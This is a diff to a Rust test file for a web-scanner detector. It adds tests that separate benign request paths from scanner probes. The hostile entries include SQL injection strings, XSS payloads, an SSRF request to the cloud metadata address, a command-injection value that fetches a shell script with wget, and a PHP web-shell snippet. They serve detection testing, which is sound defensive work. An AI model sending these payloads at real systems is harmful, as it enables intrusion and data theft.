@@ -500,3 +500,88 @@ fn partial_velocity_data_is_ignored() {
         Some(60)
     ));
 }
+
+// --- Review fixes (session 8) ----------------------------------------------------------------
+
+#[test]
+fn health_and_metrics_endpoints_are_not_probes_but_leaky_actuators_are() {
+    for p in [
+        "/actuator/health",
+        "/actuator/health/liveness",
+        "/actuator/health/readiness",
+        "/actuator/info",
+        "/actuator/prometheus",
+    ] {
+        assert!(!D::is_scanner_path(p), "{p}");
+    }
+    for p in [
+        "/actuator/env",
+        "/actuator/heapdump",
+        "/management/actuator/gateway/routes",
+        "/actuator/threaddump",
+        "/actuator/jolokia/list",
+    ] {
+        assert!(D::is_scanner_path(p), "{p}");
+    }
+}
+
+#[test]
+fn asp_net_and_jsp_pages_are_ordinary_but_their_web_shells_are_not() {
+    for p in [
+        "/Account/Login.aspx",
+        "/Default.aspx",
+        "/products/list.jsp",
+        "/orders/view.do",
+        "/sitemap.xml.gz",
+        "/sitemap-products-1.xml.gz",
+        "/adminer-review",
+    ] {
+        assert!(!D::is_scanner_path(p), "{p}");
+    }
+    for p in [
+        "/cmd.aspx",
+        "/uploads/shell.jsp",
+        "/trace.axd",
+        "/elmah.axd",
+        "/test.php.",
+        "/backup.zip",
+        "/adminer",
+        "/adminer-4.8.1.php",
+    ] {
+        assert!(D::is_scanner_path(p), "{p}");
+    }
+}
+
+#[test]
+fn common_injection_probes_in_the_query_are_exploits() {
+    for p in [
+        "/item?id=1%27%20OR%20%271%27%3D%271",
+        "/item?id=1' or 1=1-- -",
+        "/?id=1 union  select 1",
+        "/?id=1%09union%09select%201",
+        "/?id=1%0Aunion%0Aselect%201",
+        "/?id=1/**/union/**/select/**/1",
+        "/?id=1 union(select 1)",
+        "/item?id=1%20AND%20SLEEP(5)",
+        "/item?id=1';WAITFOR DELAY '0:0:5'--",
+        "/item?id=1 AND extractvalue(1,concat(0x7e,version()))",
+        "/item?q=<img src=x onerror=alert(1)>",
+        "/item?q=<svg/onload=alert(1)>",
+        "/item?next=javascript:alert(1)",
+        "/item?url=http://169.254.169.254/latest/meta-data/",
+        "/item?cmd=%3Bwget%20http%3A%2F%2F198.51.100.1%2Fx.sh",
+        "/item?x=<?php system($_GET['c']); ?>",
+    ] {
+        assert!(D::is_scanner_path(p), "{p}");
+    }
+}
+
+#[test]
+fn named_scanners_of_the_seed_and_the_review_are_scanners() {
+    for ua in [
+        "libredtail-http",
+        "Mozilla/5.0 (compatible; Odin; https://docs.getodin.com/)",
+    ] {
+        assert!(D::is_scanner_agent(ua), "{ua}");
+    }
+}
